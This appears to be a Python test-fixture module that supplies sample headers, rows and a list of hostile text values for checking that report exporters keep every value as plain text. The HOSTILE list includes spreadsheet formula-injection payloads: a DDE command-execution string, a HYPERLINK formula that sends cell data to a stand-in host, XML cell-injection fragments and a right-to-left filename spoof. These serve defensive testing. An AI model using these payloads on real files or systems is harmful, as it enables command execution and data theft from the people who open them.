"""Answers made up for the writers: every kind of column, and values that come from people who mean harm."""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any, get_args
from zoneinfo import ZoneInfo

import duckdb

from adapters.compliance.contract import Column, Header, Kind
from adapters.reports.contract import Look

KINDS: tuple[Kind, ...] = get_args(Kind)
COLUMNS = tuple(Column(f"a_{kind}", kind, f"a value of the kind {kind}", personal=kind == "text") for kind in KINDS)
LOOK = Look("en", ZoneInfo("UTC"))

HOSTILE = (
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-1+1",
    "-5",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    ' "=1+1',
    "a,=1+1",
    "a;=1+1",
    'a";=1+1',
    "a|@b",
    "a\n=1+1",
    "a\r\n+1+1",
    "'=1+1",
    "''=1+1",
    "'s-Gravenhage",
    "+31612345678",
    '=HYPERLINK("https://collect.example/?x="&A1,"open")',
    "https://collect.example/",
    "mailto:anna@example.com",
    "a,b;c\td|e",
    'say "so"',
    "two\nlines",
    "two\r\nlines",
    "   blanks   ",
    "<r><t>x</t></r>",
    "</t></is></c><c><f>1+1</f></c>",
    "&lt;&#x3d;&amp;",
    "]]>",
    "_x0041_",
    "_x000D_",
    "\x01\x02\x1b[31mred",
    "invoice\u202efdp.exe",
    "\u2066isolated\u2069",
    "\ufeffmark",
    "na\u0308ive",
    "\U0001f4e8",
    "NULL",
    "null",
    "true",
    "1e999",
    "00042",
    "2026-03-01",
    "1/2",
    "[]",
    "{}",
    "#typst[*markup*]",
    "$x$ @label <label> \\",
)
"""Texts that must come out of every format as they went in, and as texts."""


def header(columns: Iterable[Column] = COLUMNS, **changes: Any) -> Header:
    """What an answer with these columns says of itself."""
    said: dict[str, Any] = {
        "query": "made_up/1",
        "title": "An answer made up",
        "counts": "Nothing is counted.",
        "tenant": "acme",
        "parameters": {"since": "2026-01-01", "provider": ""},
        "position": 7,
        "root": "0" * 64,
        "asked_at": "2026-03-01T09:00:00.123456Z",
        "rules": ("status/2",),
        "columns": tuple(columns),
    }
    return Header(**(said | changes))


def row(number: int = 1, **changes: Any) -> tuple[Any, ...]:
    """A row of `COLUMNS`, harmless but for what is changed."""
    said = {
        "text": f"Anna No. {number}",
        "id": f"01a1fea5-0e68-72c1-a1fd-{number:012d}",
        "integer": number,
        "decimal": number / 8,
        "time": f"2026-03-{1 + number % 28:02d}T09:00:{number % 60:02d}.250000Z",
        "date": f"2026-03-{1 + number % 28:02d}",
        "boolean": number % 2 == 0,
        "list": (f"first {number}", "second"),
    }
    found = said | changes
    return tuple(found[kind] for kind in KINDS)


def texts(values: Iterable[str]) -> list[tuple[Any, ...]]:
    """A row for each text, as a text, as an id and in a list."""
    return [row(number, text=value, id=value, list=(value, "second")) for number, value in enumerate(values, 1)]


def in_duckdb(sql: str) -> list[tuple[Any, ...]]:
    """What DuckDB answers."""
    with duckdb.connect() as connection:
        return connection.execute(sql).fetchall()


def types_in_duckdb(source: str) -> dict[str, str]:
    """The types that DuckDB finds in a file, by name of the column."""
    return {name: kind for name, kind, *_ in in_duckdb(f"DESCRIBE SELECT * FROM {source}")}


EMPTY: tuple[Any, ...] = (None,) * len(KINDS)
"""A row of which nothing is known."""
